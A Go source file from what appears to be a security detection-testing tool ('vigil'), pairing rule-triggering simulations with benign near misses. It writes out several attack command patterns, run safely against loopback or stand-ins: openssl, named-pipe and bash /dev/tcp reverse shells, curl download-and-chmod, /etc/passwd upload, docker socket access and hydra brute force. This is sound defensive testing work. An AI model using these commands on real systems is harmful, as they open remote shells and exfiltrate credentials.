package simulate

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// extraSimulations returns the simulations of the rules in
// rules/vigil_rules_extra.yaml: for each rule one that fires it and one
// near miss (Benign) that must not. The same safety rules as Catalog's
// apply: files are written only below env.Scratch, network use is loopback
// only, every process is waited for, and attack and administration tools
// are harmless stand-ins (copies of /bin/true, or of sh, under the tool's
// name) that change nothing on the host.
func extraSimulations() []Simulation {
	sims := []Simulation{
		// chattr.
		{
			Name:        "chattr-immutable",
			Description: "runs a harmless stand-in named chattr (a copy of /bin/true) as `chattr +i SCRATCH/implant`; no attribute is set",
			Technique:   "T1222.002", Tactic: "defense-evasion",
			Rule:  "Immutable or append-only attribute changed with chattr",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "chattr", "implant", "+i", "%s")
			},
		},
		{
			Name:        "chattr-immutable-benign",
			Description: "runs a harmless stand-in named chattr (a copy of /bin/true) as `chattr +d SCRATCH/file` (the no-dump attribute, as backup setups do)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "chattr", "file", "+d", "%s")
			},
		},
		// setcap.
		{
			Name:        "setcap-grant",
			Description: "runs a harmless stand-in named setcap (a copy of /bin/true) as `setcap cap_setuid+ep SCRATCH/python3`; no capability is set",
			Technique:   "T1548", Tactic: "privilege-escalation",
			Rule:  "File capabilities granted with setcap",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "setcap", "python3", "cap_setuid+ep", "%s")
			},
		},
		{
			Name:        "setcap-grant-benign",
			Description: "runs a harmless stand-in named setcap (a copy of /bin/true) as `setcap -r SCRATCH/python3` (removes capabilities)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "setcap", "python3", "-r", "%s")
			},
		},
		// at.
		{
			Name:        "at-job",
			Description: "runs a harmless stand-in named at (a copy of /bin/true) as `at -f SCRATCH/job.sh now + 1 minute`; nothing is queued",
			Technique:   "T1053.002", Tactic: "execution",
			Rule:  "Job scheduled with at",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "at", "job.sh", "-f", "%s", "now", "+", "1", "minute")
			},
		},
		{
			Name:        "at-job-benign",
			Description: "runs a harmless stand-in named at (a copy of /bin/true) as `at -l` (lists the queue)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "at", "-l")
			},
		},
		// Firewall.
		{
			Name:        "firewall-flushed",
			Description: "runs a harmless stand-in named nft (a copy of /bin/true) as `nft flush ruleset`; the firewall is untouched",
			Technique:   "T1562.004", Tactic: "defense-evasion",
			Rule:  "Host firewall disabled or flushed with nft or ufw",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "nft", "flush", "ruleset")
			},
		},
		{
			Name:        "firewall-flushed-benign",
			Description: "runs a harmless stand-in named nft (a copy of /bin/true) as `nft list ruleset`",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "nft", "list", "ruleset")
			},
		},
		// Traffic capture.
		{
			Name:        "traffic-capture",
			Description: "runs a harmless stand-in named tcpdump (a copy of /bin/true) as `tcpdump -i any -w SCRATCH/cap.pcap port 80`; nothing is captured",
			Technique:   "T1040", Tactic: "credential-access",
			Rule:  "Network traffic capture tool executed",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "tcpdump", "cap.pcap", "-i", "any", "-w", "%s", "port", "80")
			},
		},
		{
			Name:        "traffic-capture-benign",
			Description: "runs a harmless stand-in named tcpdump (a copy of /bin/true) as `tcpdump -r SCRATCH/cap.pcap` (reads a saved capture)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "tcpdump", "cap.pcap", "-r", "%s")
			},
		},
		// Debugger attach.
		{
			Name:        "debugger-attach",
			Description: "runs a harmless stand-in named gdb (a copy of /bin/true) as `gdb -p PID -batch -ex detach`, PID being the simulation itself; nothing is attached",
			Technique:   "T1055.008", Tactic: "defense-evasion",
			Rule:  "Debugger attached to a running process",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "gdb", "-p", strconv.Itoa(os.Getpid()), "-batch", "-ex", "detach")
			},
		},
		{
			Name:        "debugger-attach-benign",
			Description: "runs a harmless stand-in named gdb (a copy of /bin/true) as `gdb -batch -ex run --args /bin/true` (debugs a program it starts)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "gdb", "-batch", "-ex", "run", "--args", "/bin/true")
			},
		},
		// openssl reverse shell.
		{
			Name:        "openssl-reverse-shell",
			Description: "sh -c 'OPENSSL s_client -quiet -connect 127.0.0.1:4444 | /bin/sh' where OPENSSL is a harmless stand-in (a copy of /bin/true): the shell reads nothing and exits",
			Technique:   "T1573.002", Tactic: "command-and-control",
			Rule:  "Reverse shell through openssl",
			Needs: []string{"sh", "true"},
			Run: func(ctx context.Context, env *Env) error {
				bin, err := standIn(env, "openssl")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command("sh", "-c",
					bin+" s_client -quiet -connect 127.0.0.1:4444 | /bin/sh; exit 0"))
			},
		},
		{
			Name:        "openssl-reverse-shell-benign",
			Description: "sh -c 'OPENSSL s_client -connect 127.0.0.1:4444 </dev/null' where OPENSSL is a harmless stand-in (a copy of /bin/true): a TLS check, no shell",
			Benign:      true,
			Needs:       []string{"sh", "true"},
			Run: func(ctx context.Context, env *Env) error {
				bin, err := standIn(env, "openssl")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command("sh", "-c",
					bin+" s_client -connect 127.0.0.1:4444 </dev/null; exit 0"))
			},
		},
		// Named pipe reverse shell.
		{
			Name:        "fifo-reverse-shell",
			Description: "sh -c 'mkfifo SCRATCH/f; NC 127.0.0.1 4444 < SCRATCH/f | /bin/sh > SCRATCH/f 2>&1' where NC is a harmless stand-in (a copy of /bin/true): the shell reads nothing and exits",
			Technique:   "T1059.004", Tactic: "execution",
			Rule:  "Reverse shell through a named pipe",
			Needs: []string{"sh", "true", "mkfifo"},
			Run: func(ctx context.Context, env *Env) error {
				nc, err := standIn(env, "nc")
				if err != nil {
					return err
				}
				dir, err := workDir(env, "fifo")
				if err != nil {
					return err
				}
				f := filepath.Join(dir, "f")
				return runCmd(ctx, env, exec.Command("sh", "-c", fmt.Sprintf(
					"mkfifo %s; %s 127.0.0.1 4444 < %s | /bin/sh > %s 2>&1; exit 0", f, nc, f, f)))
			},
		},
		{
			Name:        "fifo-reverse-shell-benign",
			Description: "sh -c 'mkfifo SCRATCH/f; echo x > SCRATCH/f & cat SCRATCH/f': a named pipe used for ordinary inter-process communication",
			Benign:      true,
			Needs:       []string{"sh", "mkfifo", "cat"},
			Run: func(ctx context.Context, env *Env) error {
				dir, err := workDir(env, "fifo")
				if err != nil {
					return err
				}
				f := filepath.Join(dir, "f")
				return runCmd(ctx, env, exec.Command("sh", "-c", fmt.Sprintf(
					"mkfifo %s; echo %s > %s & cat %s; wait; exit 0", f, payloadMarker, f, f)))
			},
		},
		// /dev/tcp reverse shell.
		{
			Name:        "dev-tcp-reverse-shell",
			Description: "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; /bin/sh 0<&5 1>&5 2>&5' against a loopback listener of the simulation, which has the shell run `echo; exit`",
			Technique:   "T1059.004", Tactic: "execution",
			Rule:  "Reverse shell through a bash network redirection",
			Needs: []string{"bash", "sh"},
			Run: func(ctx context.Context, env *Env) error {
				return runReverseShell(ctx, env, func(port int) *exec.Cmd {
					return exec.Command("bash", "-c", fmt.Sprintf("exec 5<>/dev/tcp/127.0.0.1/%d; /bin/sh 0<&5 1>&5 2>&5", port))
				})
			},
		},
		{
			Name:        "dev-tcp-reverse-shell-benign",
			Description: "bash -c 'echo > /dev/tcp/127.0.0.1/PORT' against a loopback listener of the simulation: a port probe, as health checks do",
			Benign:      true,
			Needs:       []string{"bash"},
			Run: func(ctx context.Context, env *Env) error {
				a, err := listenAttacker("")
				if err != nil {
					return err
				}
				err = runCmd(ctx, env, exec.Command("bash", "-c", fmt.Sprintf("echo %s > /dev/tcp/127.0.0.1/%d", payloadMarker, a.port())))
				a.close()
				return err
			},
		},
		// Download made executable.
		{
			Name:        "download-chmod-tmp",
			Description: "sh -c 'curl -o SCRATCH/payload http://127.0.0.1:PORT/payload && chmod +x SCRATCH/payload' against an HTTP server of the simulation on loopback; the file is not run",
			Technique:   "T1105", Tactic: "command-and-control",
			Rule:  "Download made executable in a temporary directory",
			Needs: []string{"sh", "curl", "chmod"},
			Run: func(ctx context.Context, env *Env) error {
				return runDownload(ctx, env, true)
			},
		},
		{
			Name:        "download-chmod-tmp-benign",
			Description: "sh -c 'curl -o SCRATCH/data.txt http://127.0.0.1:PORT/data.txt' against an HTTP server of the simulation on loopback: a download left as data",
			Benign:      true,
			Needs:       []string{"sh", "curl"},
			Run: func(ctx context.Context, env *Env) error {
				return runDownload(ctx, env, false)
			},
		},
		// Container runtime socket.
		{
			Name:        "container-socket-curl",
			Description: "runs a harmless stand-in named curl (a copy of /bin/true) as `curl --unix-socket /var/run/docker.sock http://localhost/containers/json`; the socket is not touched",
			Technique:   "T1610", Tactic: "execution",
			Rule:  "Container runtime socket used by a command-line client",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json")
			},
		},
		{
			Name:        "container-socket-curl-benign",
			Description: "runs a harmless stand-in named curl (a copy of /bin/true) as `curl --unix-socket SCRATCH/app.sock http://localhost/health` (an application's own socket)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "curl", "app.sock", "--unix-socket", "%s", "http://localhost/health")
			},
		},
		// Tor.
		{
			Name:        "tor-proxy",
			Description: "runs a harmless stand-in named torsocks (a copy of /bin/true) as `torsocks curl http://127.0.0.1/`",
			Technique:   "T1090.003", Tactic: "command-and-control",
			Rule:  "Tor or proxychains executed",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "torsocks", "curl", "http://127.0.0.1/")
			},
		},
		{
			Name:        "tor-proxy-benign",
			Description: "a stand-in named systemd (a copy of sh) runs a stand-in tor (a copy of /bin/true) as `tor --defaults-torrc ...`, as the tor service is started",
			Benign:      true,
			Needs:       []string{"sh", "true"},
			Run: func(ctx context.Context, env *Env) error {
				systemd, err := standInOf(env, "sh", "systemd")
				if err != nil {
					return err
				}
				tor, err := standIn(env, "tor")
				if err != nil {
					return err
				}
				// "; exit 0" keeps the shell from exec'ing tor in its place.
				return runCmd(ctx, env, exec.Command(systemd, "-c",
					`"$1" --defaults-torrc /usr/share/tor/tor-service-defaults-torrc; exit 0`, "systemd", tor))
			},
		},
		// Brute force.
		{
			Name:        "bruteforce-tool",
			Description: "runs a harmless stand-in named hydra (a copy of /bin/true) as `hydra -l root -P words.txt ssh://127.0.0.1`",
			Technique:   "T1110.001", Tactic: "credential-access",
			Rule:  "Network login brute force tool executed",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "hydra", "-l", "root", "-P", "words.txt", "ssh://127.0.0.1")
			},
		},
		{
			Name:        "bruteforce-tool-benign",
			Description: "runs a harmless stand-in named ssh (a copy of /bin/true) as an ordinary `ssh -o BatchMode=yes root@127.0.0.1 true`",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "ssh", "-o", "BatchMode=yes", "root@127.0.0.1", "true")
			},
		},
		// SUID discovery.
		{
			Name:        "suid-search",
			Description: "find SCRATCH -perm -4000 -type f: searches a scratch directory for setuid files",
			Technique:   "T1083", Tactic: "discovery",
			Rule:  "Setuid or capability binaries searched for",
			Needs: []string{"find"},
			Run: func(ctx context.Context, env *Env) error {
				dir, err := workDir(env, "suid-search")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command("find", dir, "-perm", "-4000", "-type", "f"))
			},
		},
		{
			Name:        "suid-search-benign",
			Description: "find SCRATCH -perm -0644 -type f: searches a scratch directory for readable files",
			Benign:      true,
			Needs:       []string{"find"},
			Run: func(ctx context.Context, env *Env) error {
				dir, err := workDir(env, "suid-search")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command("find", dir, "-perm", "-0644", "-type", "f"))
			},
		},
		// Kernel module from a writable path.
		{
			Name:        "insmod-writable-path",
			Description: "runs a harmless stand-in named insmod (a copy of /bin/true) as `insmod SCRATCH/rootkit.ko`; nothing is loaded",
			Technique:   "T1547.006", Tactic: "persistence",
			Rule:  "Kernel module loaded from a user-writable path",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "insmod", "rootkit.ko", "%s")
			},
		},
		{
			Name:        "insmod-writable-path-benign",
			Description: "runs a harmless stand-in named insmod (a copy of /bin/true) as `insmod /lib/modules/RELEASE/kernel/drivers/net/dummy.ko`; nothing is loaded",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				var u unix.Utsname
				if err := unix.Uname(&u); err != nil {
					return err
				}
				rel := unix.ByteSliceToString(u.Release[:])
				return runStandIn(ctx, env, "insmod", "/lib/modules/"+rel+"/kernel/drivers/net/dummy.ko")
			},
		},
		// Hidden executables.
		{
			Name:        "hidden-executable",
			Description: "copies /bin/true to SCRATCH/.cache/.payload (a hidden file in a hidden directory) and runs it",
			Technique:   "T1564.001", Tactic: "defense-evasion",
			Rule:  "Hidden executable run",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runCopyAt(ctx, env, ".cache", ".payload")
			},
		},
		{
			Name:        "hidden-executable-benign",
			Description: "copies /bin/true to SCRATCH/cache/payload.bin (a visible name with a dot inside) and runs it",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runCopyAt(ctx, env, "cache", "payload.bin")
			},
		},
		// Preloaded libraries.
		{
			Name:        "ld-preload-tmp",
			Description: "runs /bin/true with LD_PRELOAD=SCRATCH/libvigil-sim.so, an empty file: the loader opens it, cannot map it, says so and runs true unchanged",
			Technique:   "T1574.006", Tactic: "defense-evasion",
			Rule:  "Shared library loaded from a temporary directory",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runWithPreload(ctx, env, true)
			},
		},
		{
			Name:        "ld-preload-tmp-benign",
			Description: "copies the same SCRATCH/libvigil-sim.so with cat (a read that is not the loader's)",
			Benign:      true,
			Needs:       []string{"cat"},
			Run: func(ctx context.Context, env *Env) error {
				return runWithPreload(ctx, env, false)
			},
		},
		// Web shells.
		{
			Name:        "webserver-shell",
			Description: "a stand-in named php-fpm (a copy of sh) runs `sh -c 'echo vigil-simulation'`, as a web shell runs commands",
			Technique:   "T1505.003", Tactic: "persistence",
			Rule:  "Shell spawned by a web server",
			Needs: []string{"sh"},
			Run: func(ctx context.Context, env *Env) error {
				php, err := standInOf(env, "sh", "php-fpm")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command(php, "-c", `sh -c "echo $1"; exit 0`, "php-fpm", payloadMarker))
			},
		},
		{
			Name:        "webserver-shell-benign",
			Description: "a stand-in named php-fpm (a copy of sh) runs `sh -c '/usr/sbin/sendmail -t -i'` with empty input, as PHP's mail() does",
			Benign:      true,
			Needs:       []string{"sh"},
			Run: func(ctx context.Context, env *Env) error {
				php, err := standInOf(env, "sh", "php-fpm")
				if err != nil {
					return err
				}
				return runCmd(ctx, env, exec.Command(php, "-c", `sh -c "/usr/sbin/sendmail -t -i </dev/null" 2>/dev/null; exit 0`))
			},
		},
		// Privileged groups.
		{
			Name:        "privileged-group-add",
			Description: "runs a harmless stand-in named usermod (a copy of /bin/true) as `usermod -aG sudo vigil-sim`; no account is changed",
			Technique:   "T1098", Tactic: "persistence",
			Rule:  "User added to a privileged group",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "usermod", "-aG", "sudo", "vigil-sim")
			},
		},
		{
			Name:        "privileged-group-add-benign",
			Description: "runs a harmless stand-in named usermod (a copy of /bin/true) as `usermod -aG audio vigil-sim` (an ordinary group)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "usermod", "-aG", "audio", "vigil-sim")
			},
		},
		// Uploads.
		{
			Name:        "sensitive-file-upload",
			Description: "runs a harmless stand-in named curl (a copy of /bin/true) as `curl -F f=@/etc/passwd http://127.0.0.1:9/upload`; nothing is sent",
			Technique:   "T1048.003", Tactic: "exfiltration",
			Rule:  "Sensitive file uploaded with curl or wget",
			Needs: []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandIn(ctx, env, "curl", "-F", "f=@/etc/passwd", "http://127.0.0.1:9/upload")
			},
		},
		{
			Name:        "sensitive-file-upload-benign",
			Description: "runs a harmless stand-in named curl (a copy of /bin/true) as `curl -F f=@SCRATCH/report.txt http://127.0.0.1:9/upload` (an ordinary upload)",
			Benign:      true,
			Needs:       []string{"true"},
			Run: func(ctx context.Context, env *Env) error {
				return runStandInOnScratch(ctx, env, "curl", "report.txt", "-F", "f=@%s", "http://127.0.0.1:9/upload")
			},
		},
	}
	return sims
}

// standInOf copies the program prog into a fresh scratch directory under
// the name name and returns its path.
func standInOf(env *Env, prog, name string) (string, error) {
	dir, err := workDir(env, name)
	if err != nil {
		return "", err
	}
	return copyProgram(prog, dir, name)
}

// standIn is standInOf for a copy of /bin/true.
func standIn(env *Env, name string) (string, error) { return standInOf(env, "true", name) }

// runStandInOnScratch runs a stand-in named name (a copy of /bin/true)
// with args, where each "%s" in an argument is replaced by the path of a
// file named file in a fresh scratch directory (the file is not created).
func runStandInOnScratch(ctx context.Context, env *Env, name, file string, args ...string) error {
	bin, err := standIn(env, name)
	if err != nil {
		return err
	}
	dir, err := workDir(env, "data")
	if err != nil {
		return err
	}
	p := filepath.Join(dir, file)
	out := make([]string, len(args))
	for i, a := range args {
		out[i] = a
		if a == "%s" || a == "f=@%s" {
			out[i] = fmt.Sprintf(a, p)
		}
	}
	return runCmd(ctx, env, exec.Command(bin, out...))
}

// runCopyAt copies /bin/true to SCRATCH/DIR/NAME (DIR in a fresh scratch
// directory) and runs it.
func runCopyAt(ctx context.Context, env *Env, sub, name string) error {
	dir, err := workDir(env, "exe")
	if err != nil {
		return err
	}
	d := filepath.Join(dir, sub)
	if err := os.Mkdir(d, 0o700); err != nil {
		return err
	}
	bin, err := copyProgram("true", d, name)
	if err != nil {
		return err
	}
	return runCmd(ctx, env, exec.Command(bin, payloadMarker))
}

// runDownload has sh download a file with curl from an HTTP server of its
// own on loopback into the scratch directory and, when chmod is set, make
// it executable (it is never run).
func runDownload(ctx context.Context, env *Env, chmod bool) error {
	dir, err := workDir(env, "download")
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			io.WriteString(w, "#!/bin/sh\necho "+payloadMarker+"\n")
		}),
		ReadHeaderTimeout: cmdTimeout,
	}
	go srv.Serve(ln)
	defer func() {
		sctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.Shutdown(sctx)
		_ = srv.Close()
	}()
	base := "http://" + ln.Addr().String()
	var script string
	if chmod {
		f := filepath.Join(dir, "payload")
		script = fmt.Sprintf("curl -fsS --max-time 5 -o %s %s/payload && chmod +x %s; exit 0", f, base, f)
	} else {
		f := filepath.Join(dir, "data.txt")
		script = fmt.Sprintf("curl -fsS --max-time 5 -o %s %s/data.txt; exit 0", f, base)
	}
	return runCmd(ctx, env, exec.Command("sh", "-c", script))
}

// runWithPreload creates an empty SCRATCH/.../libvigil-sim.so and either
// runs true with it in LD_PRELOAD (preload), or reads it with cat.
func runWithPreload(ctx context.Context, env *Env, preload bool) error {
	dir, err := workDir(env, "lib")
	if err != nil {
		return err
	}
	lib := filepath.Join(dir, "libvigil-sim.so")
	if err := os.WriteFile(lib, nil, 0o644); err != nil {
		return err
	}
	if !preload {
		cmd := exec.Command("cat", lib)
		cmd.Stdout = io.Discard
		return runCmd(ctx, env, cmd)
	}
	bin, err := exec.LookPath("true")
	if err != nil {
		return err
	}
	cmd := exec.Command(bin)
	cmd.Env = append(withoutStepEnv(os.Environ()), "LD_PRELOAD="+lib)
	cmd.Stderr = io.Discard // the loader's complaint about the empty object
	return runCmd(ctx, env, cmd)
}
